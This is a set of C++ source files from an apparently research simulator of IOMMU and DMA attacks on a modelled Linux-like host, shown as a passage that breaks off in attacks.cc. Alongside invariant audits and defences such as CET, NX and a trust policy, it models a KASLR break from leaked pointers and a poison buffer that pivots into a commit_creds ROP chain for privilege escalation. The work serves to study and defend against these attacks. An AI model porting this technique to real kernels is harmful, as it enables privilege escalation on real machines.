    frag_pools_.back()->set_fault_engine(&fault_);
    skb_alloc_->RegisterFragPool(new_cpu, frag_pools_.back().get());
  }
  return *frag_pools_[cpu.value];
}

net::NicDriver& Machine::AddNicDriver(const net::NicDriver::Config& config) {
  const DeviceId device{next_device_id_++};
  iommu_->AttachDevice(device);
  frag_pool(config.cpu);  // ensure the per-CPU pool exists and is registered
  drivers_.push_back(std::make_unique<net::NicDriver>(device, *dma_, *kmem_, *skb_alloc_,
                                                      clock_, config));
  net::NicDriver& driver = *drivers_.back();
  // Multi-queue: every queue's CPU needs its pool before workers run.
  for (uint32_t q = 0; q < driver.num_queues(); ++q) {
    frag_pool(driver.queue_cpu(q));
  }
  driver.set_fault_engine(&fault_);
  driver.set_tracer(tracer_.get());
  const policy::DeviceIdentity identity{config.name, "nic"};
  recovery_->RegisterDevice(device, drivers_.back().get(), RecoveryTuneFor(identity));
  if (policy_ != nullptr) {
    // Pool attach can only fail on physical-memory exhaustion at bring-up;
    // the device then simply stays outside the policy (never bounced).
    (void)policy_->RegisterDevice(device, identity, drivers_.back().get());
  }
  return driver;
}

nvme::NvmeDriver& Machine::AddNvmeDriver(const nvme::NvmeDriver::Config& config) {
  const DeviceId device{next_device_id_++};
  iommu_->AttachDevice(device);
  slab::PageFragPool& pool = frag_pool(config.cpu);
  nvme_drivers_.push_back(std::make_unique<nvme::NvmeDriver>(
      device, *dma_, *kmem_, *slab_, &pool, clock_, config));
  nvme_drivers_.back()->set_fault_engine(&fault_);
  nvme_drivers_.back()->set_tracer(tracer_.get());
  const policy::DeviceIdentity identity{config.name, "nvme"};
  recovery_->RegisterDevice(device, nvme_drivers_.back().get(), RecoveryTuneFor(identity));
  if (policy_ != nullptr) {
    (void)policy_->RegisterDevice(device, identity, nvme_drivers_.back().get());
  }
  return *nvme_drivers_.back();
}

const recovery::RecoveryConfig* Machine::RecoveryTuneFor(
    const policy::DeviceIdentity& identity) const {
  if (policy_ == nullptr) {
    return nullptr;
  }
  const policy::Quirk* quirk = policy_->FindQuirk(identity);
  return quirk != nullptr && quirk->recovery_tune.has_value() ? &*quirk->recovery_tune
                                                              : nullptr;
}

Status Machine::CheckInvariants() const {
  if (!config_.iommu.enabled) {
    return OkStatus();  // no translation structures to audit
  }

  // (1) Every tracked DMA mapping still translates page-by-page to the
  // physical pages behind its KVA buffer.
  Status failure = OkStatus();
  dma_->ForEachMapping([&](const dma::DmaMapping& mapping) {
    if (!failure.ok()) {
      return;
    }
    Result<PhysAddr> phys = layout_.DirectMapKvaToPhys(mapping.kva);
    if (!phys.ok()) {
      failure = Internal("invariant: tracked mapping KVA outside the direct map (site " +
                         mapping.site + ")");
      return;
    }
    const Iova base = mapping.iova.PageBase();
    for (uint64_t i = 0; i < mapping.pages(); ++i) {
      std::optional<iommu::PteEntry> pte =
          iommu_->Peek(mapping.device, Iova{base.value + (i << kPageShift)});
      if (!pte.has_value() || pte->pfn.value != phys->pfn().value + i) {
        failure = Internal("invariant: tracked mapping does not translate (device " +
                           std::to_string(mapping.device.value) + ", site " + mapping.site +
                           ", page " + std::to_string(i) + ")");
        return;
      }
    }
  });
  SPV_RETURN_IF_ERROR(failure);

  // (2) Containment: every installed PTE lies inside a live IOVA allocation.
  // A PTE outside every range is a translation whose IOVA was freed (or never
  // allocated) — a leaked device window. One-sided on purpose: live ranges
  // without PTEs are fine (size-class rounding over-reserves).
  std::set<uint32_t> audited_domains;
  for (DeviceId device : iommu_->attached_devices()) {
    if (!audited_domains.insert(iommu_->domain_id(device)).second) {
      continue;  // one audit per shared translation domain
    }
    const iommu::IoPageTable* table = iommu_->page_table(device);
    const iommu::IovaAllocator* iova_alloc = iommu_->iova_allocator(device);
    if (table == nullptr || iova_alloc == nullptr) {
      continue;
    }
    const auto ranges = iova_alloc->live_ranges();
    for (const auto& [iova, pte] : table->AllMappings()) {
      const uint64_t page = iova.value >> kPageShift;
      bool contained = false;
      for (const auto& range : ranges) {
        if (page >= range.base_page && page < range.base_page + range.pages) {
          contained = true;
          break;
        }
      }
      if (!contained) {
        return Internal("invariant: PTE at iova page " + std::to_string(page) +
                        " (device " + std::to_string(device.value) +
                        ") outside every live IOVA range");
      }
    }
  }

  // (3) Every stale IOTLB entry (cached translation with no live PTE) must
  // be covered by a pending deferred invalidation: that is the legitimate
  // Fig 6 window. Stale with nothing pending means an invalidation was lost.
  std::unordered_map<uint32_t, DeviceId> domain_rep;
  for (DeviceId device : iommu_->attached_devices()) {
    domain_rep.emplace(iommu_->domain_id(device), device);
  }
  const auto pending = iommu_->pending_invalidations();
  Status stale_failure = OkStatus();
  iommu_->iotlb().ForEachEntry(
      [&](DeviceId domain, Iova iova_page, const iommu::PteEntry&) {
        if (!stale_failure.ok()) {
          return;
        }
        auto rep = domain_rep.find(domain.value);
        if (rep == domain_rep.end()) {
          return;
        }
        if (iommu_->Peek(rep->second, iova_page).has_value()) {
          return;  // a live PTE backs this cached translation
        }
        for (const auto& range : pending) {
          if (iommu_->domain_id(range.device) != domain.value) {
            continue;
          }
          const uint64_t begin = range.base.value;
          const uint64_t end = begin + (range.pages << kPageShift);
          if (iova_page.value >= begin && iova_page.value < end) {
            return;  // awaiting the queued flush
          }
        }
        stale_failure = Internal("invariant: stale IOTLB entry at iova " +
                                 std::to_string(iova_page.value) + " (domain " +
                                 std::to_string(domain.value) +
                                 ") with no pending invalidation");
      });
  SPV_RETURN_IF_ERROR(stale_failure);

  // (4) Page accounting: PageDb ownership agrees with the buddy allocator.
  const uint64_t db_free = page_db_.CountOwned(mem::PageOwner::kFree);
  if (db_free != page_alloc_->free_pages()) {
    return Internal("invariant: PageDb counts " + std::to_string(db_free) +
                    " free pages but the allocator reports " +
                    std::to_string(page_alloc_->free_pages()));
  }

  // (5) Cross-CPU IOMMU state: flush-shard liveness and magazine ownership.
  SPV_RETURN_IF_ERROR(iommu_->AuditCrossCpu());

  // (6) Per-queue NIC ring accounting against the DMA tracker.
  for (const auto& driver : drivers_) {
    SPV_RETURN_IF_ERROR(driver->AuditQueues());
  }

  // (7) Bounce-pool accounting: slot in-use bits match active runs, runs are
  // disjoint and contained, and the pool's static mappings still translate.
  if (bounce_pool_ != nullptr) {
    SPV_RETURN_IF_ERROR(bounce_pool_->Audit());
  }
  return OkStatus();
}

}  // namespace spv::core
