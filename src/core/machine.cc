#include "core/machine.h"

#include <cassert>

namespace spv::core {

namespace {

mem::KernelLayout MakeLayout(const MachineConfig& config, Xoshiro256& rng) {
  return mem::KernelLayout::Create(config.phys_pages, config.kaslr, rng);
}

}  // namespace

Machine::Machine(const MachineConfig& config)
    : config_(config),
      hub_(config.telemetry),
      rng_(config.seed),
      pm_(config.phys_pages),
      page_db_(config.phys_pages),
      layout_(MakeLayout(config, rng_)) {
  assert(config.kernel_image_pages < config.phys_pages);
  hub_.BindClock(&clock_);
  if (config.randomize_struct_layout) {
    // Shuffle destructor_arg among the unused pointer-sized slots (8: the
    // frag_list slot, 16: hwtstamps, 32: the compile-time position). Slot 24
    // is excluded: tskey/dataref live there.
    const uint64_t candidates[] = {8, 16, 32};
    layout_.set_shinfo_destructor_offset(candidates[rng_.NextBelow(3)]);
  }
  // Reserve the kernel image at the bottom of RAM.
  for (uint64_t pfn = 0; pfn < config.kernel_image_pages; ++pfn) {
    page_db_.Get(Pfn{pfn}).owner = mem::PageOwner::kKernelImage;
  }
  page_alloc_ = std::make_unique<mem::PageAllocator>(
      page_db_, Pfn{config.kernel_image_pages},
      config.phys_pages - config.kernel_image_pages);
  iommu_ = std::make_unique<iommu::Iommu>(pm_, clock_, config.iommu);
  iommu_->set_telemetry(&hub_);
  dma_ = std::make_unique<dma::DmaApi>(*iommu_, layout_, &hub_);
  kmem_ = std::make_unique<dma::KernelMemory>(pm_, layout_, *dma_);
  slab_ = std::make_unique<slab::SlabAllocator>(pm_, page_db_, *page_alloc_, layout_, &hub_);
  skb_alloc_ = std::make_unique<net::SkbAllocator>(*kmem_, *slab_);
  stack_ = std::make_unique<net::NetworkStack>(*kmem_, *slab_, *skb_alloc_, config.net);
}

slab::PageFragPool& Machine::frag_pool(CpuId cpu) {
  while (frag_pools_.size() <= cpu.value) {
    const CpuId new_cpu{static_cast<uint32_t>(frag_pools_.size())};
    frag_pools_.push_back(std::make_unique<slab::PageFragPool>(
        page_db_, *page_alloc_, layout_, new_cpu, slab::PageFragPool::kDefaultRegionBytes,
        &hub_));
    skb_alloc_->RegisterFragPool(new_cpu, frag_pools_.back().get());
  }
  return *frag_pools_[cpu.value];
}

net::NicDriver& Machine::AddNicDriver(const net::NicDriver::Config& config) {
  const DeviceId device{next_device_id_++};
  iommu_->AttachDevice(device);
  frag_pool(config.cpu);  // ensure the per-CPU pool exists and is registered
  drivers_.push_back(std::make_unique<net::NicDriver>(device, *dma_, *kmem_, *skb_alloc_,
                                                      clock_, config));
  return *drivers_.back();
}

}  // namespace spv::core
