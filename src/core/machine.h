// Machine: the facade wiring every substrate into one simulated host.
//
// Construction order mirrors a boot: physical memory, kernel layout (KASLR),
// page allocator (with the kernel image reserved), IOMMU, DMA API, slab,
// network stack. NIC drivers (and their per-CPU page_frag pools) are added
// like module loads. This is the public entry point of the library — see
// examples/quickstart.cc.

#ifndef SPV_CORE_MACHINE_H_
#define SPV_CORE_MACHINE_H_

#include <cstdint>
#include <functional>
#include <memory>
#include <vector>

#include "base/clock.h"
#include "base/exec.h"
#include "base/rng.h"
#include "base/status.h"
#include "base/types.h"
#include "dma/dma_api.h"
#include "dma/kernel_memory.h"
#include "fault/fault.h"
#include "forensics/flight_recorder.h"
#include "forensics/incident.h"
#include "iommu/iommu.h"
#include "mem/kernel_layout.h"
#include "mem/page_allocator.h"
#include "mem/page_db.h"
#include "mem/phys_memory.h"
#include "net/nic_driver.h"
#include "net/skbuff.h"
#include "net/stack.h"
#include "nvme/nvme_driver.h"
#include "dma/bounce_pool.h"
#include "policy/policy.h"
#include "recovery/recovery.h"
#include "slab/page_frag.h"
#include "slab/slab_allocator.h"
#include "telemetry/telemetry.h"
#include "trace/tracer.h"
#include "trace/window_tracker.h"

namespace spv::core {

struct MachineConfig {
  // How the machine executes multi-CPU work (RunOnCpus):
  //   * kSequential (default) — one host thread, deterministic, byte-identical
  //     to the historical single-threaded machine;
  //   * kThreads — one host worker per sim CPU. Bring-up engages every
  //     layer's locks, shards the IOMMU flush queue per CPU, switches the
  //     clock to per-CPU counters and telemetry ingest to SPSC rings.
  // The CPU count is config.iommu.fast_path.num_cpus in both modes.
  ExecMode exec = ExecMode::kSequential;
  uint64_t phys_pages = 16384;  // 64 MiB of simulated RAM
  uint64_t kernel_image_pages = 1024;  // reserved at the bottom of RAM
  bool kaslr = true;
  // CONFIG_GCC_PLUGIN_RANDSTRUCT-style structure layout randomization
  // (paper footnote 2): shuffles skb_shared_info's destructor_arg slot.
  bool randomize_struct_layout = false;
  uint64_t seed = 1;
  iommu::Iommu::Config iommu;          // deferred mode by default, like Linux
  net::NetworkStack::Config net;
  // Recording is off by default; flip `telemetry.enabled` to collect counters
  // and a trace ring for the whole machine.
  telemetry::Hub::Config telemetry;
  // Causal span tracing (spv::trace). Off by default; flip `trace.enabled`
  // to open spans around every multi-step operation and (unless
  // `trace.track_windows` is cleared) account vulnerability windows.
  trace::TracerConfig trace;
  // Deterministic fault injection: a non-empty plan arms the machine-wide
  // FaultEngine (seeded from `seed`) and every layer's hooks start firing.
  // Empty (the default) means no faults and near-zero overhead.
  fault::FaultPlan fault_plan;
  // Device supervision (spv::recovery). Disabled by default: the paper's
  // attacks reproduce unhindered and the health scorer never joins the bus.
  recovery::RecoveryManager::Config recovery;
  // Device trust policy (spv::policy). Disabled by default: no bounce pool
  // is built, DmaApi routing stays a null check, and devices behave exactly
  // as before the engine existed. Enabled, every Add*Driver registration
  // consults the quirks table and untrusted devices run bounce-only.
  policy::PolicyEngine::Config policy;
  // DMA flight recorder + incident engine (spv::forensics). Disabled by
  // default: no recorder is built and every hook stays a one-branch null
  // check. Enabled, every IOMMU-boundary transaction and DMA mapping edge is
  // recorded, and detector firings freeze deterministic incident reports.
  forensics::ForensicsConfig forensics;
};

class Machine {
 public:
  explicit Machine(const MachineConfig& config);

  Machine(const Machine&) = delete;
  Machine& operator=(const Machine&) = delete;

  // Adds a NIC driver instance; attaches its device to the IOMMU and creates
  // the per-CPU page_frag pool backing its RX ring (§5.2.2).
  net::NicDriver& AddNicDriver(const net::NicDriver::Config& config);

  // Adds an NVMe block driver instance: attaches its device to the IOMMU,
  // ensures the per-CPU page_frag pool its PRP-list segments carve from, and
  // registers it with the recovery supervisor. The caller still constructs a
  // controller model and calls AttachDevice + Init (mirroring AddNicDriver,
  // where the device model is test-provided).
  nvme::NvmeDriver& AddNvmeDriver(const nvme::NvmeDriver::Config& config);

  // Switches the CPU the simulated kernel executes on (bounded by
  // config.iommu.fast_path.num_cpus). DMA map/unmap traffic issued after
  // this lands in that CPU's IOVA magazine caches; NIC drivers pin
  // themselves to their configured CPU on each ring operation.
  void set_current_cpu(CpuId cpu) { dma_->set_current_cpu(cpu); }
  CpuId current_cpu() const { return iommu_->current_cpu(); }

  ExecMode exec_mode() const { return config_.exec; }
  uint32_t num_cpus() const { return config_.iommu.fast_path.num_cpus; }

  // Runs `fn(cpu)` for sim CPUs [0, cpus). In kSequential mode the CPUs run
  // one after another on the calling thread (deterministic); in kThreads mode
  // each CPU gets its own host worker thread and the telemetry drainer runs
  // for the duration. Either way the ambient CPU is set for each body and
  // restored to CPU 0 afterwards. `cpus` is clamped to num_cpus().
  void RunOnCpus(uint32_t cpus, const std::function<void(CpuId)>& fn);

  // ---- Component access ------------------------------------------------------

  SimClock& clock() { return clock_; }
  Xoshiro256& rng() { return rng_; }
  mem::PhysicalMemory& pm() { return pm_; }
  mem::PageDb& page_db() { return page_db_; }
  mem::PageAllocator& page_alloc() { return *page_alloc_; }
  const mem::KernelLayout& layout() const { return layout_; }
  iommu::Iommu& iommu() { return *iommu_; }
  dma::DmaApi& dma() { return *dma_; }
  dma::KernelMemory& kmem() { return *kmem_; }
  slab::SlabAllocator& slab() { return *slab_; }
  net::SkbAllocator& skb_alloc() { return *skb_alloc_; }
  net::NetworkStack& stack() { return *stack_; }
  slab::PageFragPool& frag_pool(CpuId cpu);
  // The machine-wide event bus; every component publishes here.
  telemetry::Hub& telemetry() { return hub_; }
  // Span tracer; null unless config.trace.enabled.
  trace::Tracer* tracer() { return tracer_.get(); }
  // Vulnerability-window accounting; null unless tracing with track_windows.
  trace::WindowTracker* windows() { return windows_.get(); }
  // The machine-wide fault engine (armed iff config.fault_plan is non-empty).
  fault::FaultEngine& fault() { return fault_; }
  // Device supervision; present always, active iff config.recovery.enabled.
  recovery::RecoveryManager& recovery() { return *recovery_; }
  // Trust policy engine and its bounce pool; null unless config.policy.enabled.
  policy::PolicyEngine* policy() { return policy_.get(); }
  dma::BouncePool* bounce_pool() { return bounce_pool_.get(); }
  // Flight recorder and incident engine; null unless config.forensics.enabled.
  forensics::FlightRecorder* flight_recorder() { return recorder_.get(); }
  forensics::IncidentEngine* incidents() { return incidents_.get(); }

  // Cross-layer consistency audit; call at teardown (or any quiescent point).
  // Verifies that (1) every tracked DMA mapping still translates page-by-page
  // to its buffer's physical pages, (2) every installed PTE lies inside a
  // live IOVA allocation (no leaked translations), (3) every stale IOTLB
  // entry is covered by a pending deferred invalidation (the legitimate
  // Fig 6 window, as opposed to a lost one), and (4) PageDb ownership agrees
  // with the page allocator's free count. Cross-CPU coverage: (5) the IOMMU's
  // sharded flush queues and per-CPU magazines are internally consistent
  // (Iommu::AuditCrossCpu), and (6) every NIC queue's posted RX / busy TX
  // slots are backed by live DMA mappings (NicDriver::AuditQueues). With the
  // trust policy enabled, (7) the bounce pool's slot accounting matches its
  // active runs and its static mappings still translate (BouncePool::Audit).
  // No-op when the IOMMU is disabled.
  Status CheckInvariants() const;

  const MachineConfig& config() const { return config_; }
  DeviceId next_device_id() const { return DeviceId{next_device_id_}; }

 private:
  // The quirks-table recovery override for `identity`, or nullptr (machine
  // default / policy disabled).
  const recovery::RecoveryConfig* RecoveryTuneFor(
      const policy::DeviceIdentity& identity) const;

  MachineConfig config_;
  SimClock clock_;
  telemetry::Hub hub_;  // before any component that publishes into it
  std::unique_ptr<trace::Tracer> tracer_;          // null when tracing is off
  std::unique_ptr<trace::WindowTracker> windows_;  // sink on hub_ when present
  fault::FaultEngine fault_;  // before any component holding a hook into it
  Xoshiro256 rng_;
  mem::PhysicalMemory pm_;
  mem::PageDb page_db_;
  mem::KernelLayout layout_;
  std::unique_ptr<mem::PageAllocator> page_alloc_;
  std::unique_ptr<iommu::Iommu> iommu_;
  std::unique_ptr<dma::DmaApi> dma_;
  std::unique_ptr<dma::KernelMemory> kmem_;
  std::unique_ptr<slab::SlabAllocator> slab_;
  std::unique_ptr<net::SkbAllocator> skb_alloc_;
  std::unique_ptr<net::NetworkStack> stack_;
  std::unique_ptr<recovery::RecoveryManager> recovery_;
  std::unique_ptr<dma::BouncePool> bounce_pool_;   // before policy_ (used by it)
  std::unique_ptr<policy::PolicyEngine> policy_;
  std::unique_ptr<forensics::FlightRecorder> recorder_;
  // After policy_/recovery_: its snapshot providers capture those engines.
  std::unique_ptr<forensics::IncidentEngine> incidents_;
  std::vector<std::unique_ptr<slab::PageFragPool>> frag_pools_;
  std::vector<std::unique_ptr<net::NicDriver>> drivers_;
  std::vector<std::unique_ptr<nvme::NvmeDriver>> nvme_drivers_;
  uint32_t next_device_id_ = 1;
};

}  // namespace spv::core

#endif  // SPV_CORE_MACHINE_H_
