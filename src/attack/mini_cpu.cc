#include "attack/mini_cpu.h"

#include <sstream>

namespace spv::attack {

Status MiniCpu::InvokeCallback(Kva function, Kva arg) {
  rdi_ = arg.value;  // x86-64 SysV: first argument in %rdi
  chain_active_ = false;
  steps_ = 0;
  return Step(function);
}

Result<uint64_t> MiniCpu::Pop() {
  Result<uint64_t> value = kmem_.ReadU64(Kva{rsp_});
  if (!value.ok()) {
    return value.status();
  }
  rsp_ += 8;
  return value;
}

Status MiniCpu::Step(Kva pc) {
  while (true) {
    if (++steps_ > kMaxSteps) {
      return Internal("ROP chain exceeded step budget");
    }
    if (pc.is_null()) {
      if (chain_active_) {
        return OkStatus();  // chain terminator qword
      }
      // Direct call through a NULL pointer: kernel oops.
      ++wild_jumps_;
      trace_.push_back({pc, "NULL callback -> oops"});
      return Internal("call through NULL function pointer");
    }
    if (!IsExecutable(pc)) {
      ++nx_faults_;
      trace_.push_back({pc, "NX fault: fetch from non-executable page"});
      return PermissionDenied("NX: attempted execution from data page");
    }
    const uint64_t offset = pc.value - layout_.text_base();
    const std::optional<GadgetKind> gadget = catalog_.Find(offset);
    if (!gadget.has_value()) {
      ++wild_jumps_;
      trace_.push_back({pc, "wild jump into text (no gadget) -> oops"});
      return Internal("jump to unrecognized text address");
    }

    if (cet_enabled_) {
      if (chain_active_) {
        // A `ret` whose target is not on the shadow stack: #CP fault.
        ++cet_violations_;
        trace_.push_back({pc, "CET: return target not on shadow stack -> #CP"});
        return PermissionDenied("CET shadow-stack violation");
      }
      const bool endbr_marked = *gadget == GadgetKind::kPrepareKernelCred ||
                                *gadget == GadgetKind::kCommitCreds ||
                                *gadget == GadgetKind::kBenignDestructor;
      if (!endbr_marked) {
        // Indirect call into an instruction fragment (no ENDBR): #CP fault.
        ++cet_violations_;
        trace_.push_back({pc, "CET: indirect branch to non-ENDBR target -> #CP"});
        return PermissionDenied("CET indirect-branch violation");
      }
    }

    trace_.push_back({pc, GadgetKindName(*gadget)});

    switch (*gadget) {
      case GadgetKind::kJopStackPivot: {
        // %rsp = %rdi + const; jmp — switches the stack to attacker data and
        // starts returning through it.
        rsp_ = rdi_ + mem::kSymJopPivotConst;
        chain_active_ = true;
        break;
      }
      case GadgetKind::kPopRdi: {
        Result<uint64_t> value = Pop();
        if (!value.ok()) {
          return value.status();
        }
        rdi_ = *value;
        break;
      }
      case GadgetKind::kPopRsi: {
        Result<uint64_t> value = Pop();
        if (!value.ok()) {
          return value.status();
        }
        rsi_ = *value;
        break;
      }
      case GadgetKind::kMovRaxRdi:
        rdi_ = rax_;
        break;
      case GadgetKind::kRet:
        break;
      case GadgetKind::kPrepareKernelCred:
        rax_ = kCredToken;
        break;
      case GadgetKind::kCommitCreds:
        if (rdi_ == kCredToken) {
          escalated_ = true;
          trace_.push_back({pc, "*** commit_creds(root) — privilege escalated ***"});
        }
        break;
      case GadgetKind::kBenignDestructor:
        ++benign_callbacks_;
        return OkStatus();  // normal callback: runs and returns to the kernel
    }

    if (!chain_active_) {
      return OkStatus();  // plain call, no pivot: returns to the kernel
    }
    // ret: next pc from the (attacker-controlled) stack.
    Result<uint64_t> next = Pop();
    if (!next.ok()) {
      return next.status();
    }
    pc = Kva{*next};
  }
}

}  // namespace spv::attack
