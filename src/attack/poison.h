// Poison image: the malicious buffer a device plants in kernel memory.
//
// Layout (Figure 4 (b)/(c)):
//
//   +0   struct ubuf_info  { callback = &JOP-pivot-gadget; ... }
//   +32  padding
//   +64  ROP stack: prepare_kernel_cred ; mov rax,rdi ; commit_creds ; 0
//
// The JOP pivot executes %rsp = %rdi + 0x40. The kernel calls
// callback(%rdi = &ubuf_info), so the pivot lands %rsp exactly on the ROP
// stack at image offset 64. Gadget addresses are absolute KVAs, which is why
// the image can only be built after KASLR is broken; the image's own KVA
// (`ubuf_kva`) must also be known — obtaining it is the whole point of the
// compound attacks.

#ifndef SPV_ATTACK_POISON_H_
#define SPV_ATTACK_POISON_H_

#include <cstdint>
#include <vector>

#include "attack/kaslr_break.h"
#include "base/status.h"
#include "base/types.h"

namespace spv::attack {

struct PoisonLayout {
  static constexpr uint64_t kUbufOffset = 0;
  static constexpr uint64_t kRopOffset = 64;  // == mem::kSymJopPivotConst
  static constexpr uint64_t kMarkerOffset = 96;  // after the 4-qword chain
  static constexpr uint64_t kImageBytes = 112;
  // Magic the device stamps into its poison so it can recognize its own
  // buffer when it shows up in an echoed / forwarded TX page.
  static constexpr uint64_t kMarker = 0x50'4f49'534f'4e21ULL;  // "POISON!"
};

// Builds the poison byte image for a buffer that will live at `ubuf_kva`.
// Fails unless `knowledge.text_base` is known (gadget addresses are absolute).
Result<std::vector<uint8_t>> BuildPoisonImage(const KaslrKnowledge& knowledge,
                                              uint64_t ubuf_kva);

// A placeholder image (marker only, zero callback): safe to send before KASLR
// is broken, recognizable in TX harvests.
std::vector<uint8_t> BuildMarkerImage();

}  // namespace spv::attack

#endif  // SPV_ATTACK_POISON_H_
