// MiniCpu: an NX-aware CPU model that executes kernel callbacks.
//
// Plugged into the network stack as the CallbackInvoker. When the kernel
// calls through a function pointer:
//   * a target outside the kernel-text mapping raises an NX fault (W^X/DEP,
//     §2.4) — naive "point the callback at my shellcode" injection fails;
//   * a target inside text executes the catalogued gadget semantics. The
//     JOP stack-pivot gadget switches %rsp to attacker data, after which the
//     CPU pops "return addresses" from simulated memory and executes them as
//     a ROP chain (§2.4, §6).
//
// Privilege escalation is modelled as prepare_kernel_cred -> commit_creds
// with a matching cred token; `privilege_escalated()` is the attack's
// success bit.

#ifndef SPV_ATTACK_MINI_CPU_H_
#define SPV_ATTACK_MINI_CPU_H_

#include <cstdint>
#include <string>
#include <vector>

#include "attack/gadgets.h"
#include "base/status.h"
#include "base/types.h"
#include "dma/kernel_memory.h"
#include "mem/kernel_layout.h"
#include "net/skbuff.h"

namespace spv::attack {

class MiniCpu : public net::CallbackInvoker {
 public:
  struct TraceEntry {
    Kva pc;
    std::string what;
  };

  MiniCpu(dma::KernelMemory& kmem, const mem::KernelLayout& layout,
          GadgetCatalog catalog = GadgetCatalog::Default())
      : kmem_(kmem), layout_(layout), catalog_(std::move(catalog)) {}

  // Intel CET model (§8): a shadow stack the attacker cannot write. With CET
  // on, every `ret` target is checked against the shadow stack, and indirect
  // jump/call targets must be ENDBR-marked (we mark whole-function gadgets —
  // prepare_kernel_cred, commit_creds, the benign destructor — but not
  // instruction-fragment gadgets). ROP/JOP chains die on the first gadget.
  void set_cet_enabled(bool enabled) { cet_enabled_ = enabled; }
  uint64_t cet_violations() const { return cet_violations_; }

  // net::CallbackInvoker — entry point for kernel indirect calls.
  Status InvokeCallback(Kva function, Kva arg) override;

  bool privilege_escalated() const { return escalated_; }
  uint64_t nx_faults() const { return nx_faults_; }
  uint64_t wild_jumps() const { return wild_jumps_; }  // text KVA with no gadget
  uint64_t benign_callbacks() const { return benign_callbacks_; }
  const std::vector<TraceEntry>& trace() const { return trace_; }

  void ResetForNextRun() {
    escalated_ = false;
    trace_.clear();
  }

  // The kernel-image span treated as executable. 512 MiB window like Table 1.
  static constexpr uint64_t kTextBytes = 512ull << 20;

 private:
  static constexpr int kMaxSteps = 64;
  static constexpr uint64_t kCredToken = 0x637265645f746f6bULL;  // "cred_tok"

  bool IsExecutable(Kva kva) const {
    return kva.value >= layout_.text_base() && kva.value < layout_.text_base() + kTextBytes;
  }

  Status Step(Kva pc);   // execute one gadget, possibly continuing the chain
  Result<uint64_t> Pop();

  dma::KernelMemory& kmem_;
  const mem::KernelLayout& layout_;
  GadgetCatalog catalog_;

  // Register file (the subset the gadgets touch).
  uint64_t rax_ = 0;
  uint64_t rdi_ = 0;
  uint64_t rsi_ = 0;
  uint64_t rsp_ = 0;
  bool chain_active_ = false;
  int steps_ = 0;

  bool escalated_ = false;
  bool cet_enabled_ = false;
  uint64_t cet_violations_ = 0;
  uint64_t nx_faults_ = 0;
  uint64_t wild_jumps_ = 0;
  uint64_t benign_callbacks_ = 0;
  std::vector<TraceEntry> trace_;
};

}  // namespace spv::attack

#endif  // SPV_ATTACK_MINI_CPU_H_
