// KASLR subversion from leaked pointers (§2.4).
//
// The attacker classifies leaked qwords by the *fixed* Table-1 ranges, then
// uses the alignment guarantees to recover the randomized bases:
//   * kernel-text pointers keep their low 21 bits across boots (2 MiB slide),
//     so a pointer whose low 21 bits equal init_net's compile-time low bits
//     pins the image base;
//   * vmemmap / direct-map bases are 1 GiB aligned, so (for regions smaller
//     than 1 GiB, which covers our machines) the base is simply the pointer
//     rounded down to 1 GiB, and the low 30 bits carry the PFN / physical
//     offset.
//
// Everything here runs device-side: inputs are raw qwords the device read
// through the IOMMU; no kernel secrets are consulted.

#ifndef SPV_ATTACK_KASLR_BREAK_H_
#define SPV_ATTACK_KASLR_BREAK_H_

#include <cstdint>
#include <optional>
#include <span>
#include <string>

#include "base/status.h"
#include "base/types.h"
#include "mem/kernel_layout.h"
#include "mem/kernel_symbols.h"

namespace spv::attack {

struct KaslrKnowledge {
  std::optional<uint64_t> text_base;
  std::optional<uint64_t> vmemmap_base;
  std::optional<uint64_t> page_offset_base;

  bool complete() const {
    return text_base.has_value() && vmemmap_base.has_value() && page_offset_base.has_value();
  }

  // ---- Attacker-side translations (valid once the relevant base is known) ----

  Result<uint64_t> SymbolAddress(uint64_t image_offset) const {
    if (!text_base.has_value()) {
      return Unavailable("text base unknown");
    }
    return *text_base + image_offset;
  }

  Result<uint64_t> StructPageToPfn(uint64_t struct_page_ptr) const {
    if (!vmemmap_base.has_value()) {
      return Unavailable("vmemmap base unknown");
    }
    if (struct_page_ptr < *vmemmap_base) {
      return InvalidArgument("pointer below vmemmap base");
    }
    return (struct_page_ptr - *vmemmap_base) / mem::kStructPageSize;
  }

  // KVA of the data a frag describes: struct page -> PFN -> direct map.
  Result<uint64_t> StructPageToDataKva(uint64_t struct_page_ptr, uint32_t page_offset) const {
    Result<uint64_t> pfn = StructPageToPfn(struct_page_ptr);
    if (!pfn.ok()) {
      return pfn.status();
    }
    return PfnToKva(*pfn, page_offset);
  }

  Result<uint64_t> PfnToKva(uint64_t pfn, uint64_t offset = 0) const {
    if (!page_offset_base.has_value()) {
      return Unavailable("direct map base unknown");
    }
    return *page_offset_base + (pfn << kPageShift) + offset;
  }

  std::string ToString() const;
};

class KaslrBreaker {
 public:
  struct Stats {
    uint64_t qwords_seen = 0;
    uint64_t text_pointers = 0;
    uint64_t init_net_hits = 0;
    uint64_t vmemmap_pointers = 0;
    uint64_t direct_map_pointers = 0;
  };

  // Feeds leaked qwords (e.g. a harvested page) into the classifier.
  void Consume(std::span<const uint64_t> qwords);

  const KaslrKnowledge& knowledge() const { return knowledge_; }
  const Stats& stats() const { return stats_; }

 private:
  void ConsumeOne(uint64_t value);

  KaslrKnowledge knowledge_;
  Stats stats_;
};

}  // namespace spv::attack

#endif  // SPV_ATTACK_KASLR_BREAK_H_
