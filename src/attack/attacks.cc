#include "attack/attacks.h"

#include <algorithm>
#include <cstring>
#include <sstream>

#include "net/layouts.h"

namespace spv::attack {

namespace {

constexpr uint32_t kAttackerIp = 0x0afe0001;
constexpr uint16_t kClosedPort = 60000;

std::vector<uint8_t> PadTo(std::vector<uint8_t> bytes, size_t size) {
  bytes.resize(std::max(bytes.size(), size), 0);
  return bytes;
}

// Device-side parse of a harvested page: qwords that classify as vmemmap
// pointers followed by a sane (offset, size) pair are frag entries.
struct ParsedFrag {
  uint64_t struct_page;
  uint32_t page_offset;
  uint32_t size;
};

std::vector<ParsedFrag> ScanForFragEntries(const std::vector<uint64_t>& qwords) {
  std::vector<ParsedFrag> frags;
  for (size_t i = 0; i + 1 < qwords.size(); ++i) {
    const uint64_t candidate = qwords[i];
    if (mem::KernelLayout::ClassifyByRange(Kva{candidate}) != mem::Region::kVmemmap) {
      continue;
    }
    const uint32_t page_offset = static_cast<uint32_t>(qwords[i + 1] & 0xffffffffu);
    const uint32_t size = static_cast<uint32_t>(qwords[i + 1] >> 32);
    if (page_offset < kPageSize && size > 0 && size <= 65536) {
      frags.push_back(ParsedFrag{candidate, page_offset, size});
    }
  }
  return frags;
}

// Publishes one attack-stage transition onto the machine's bus. The trace
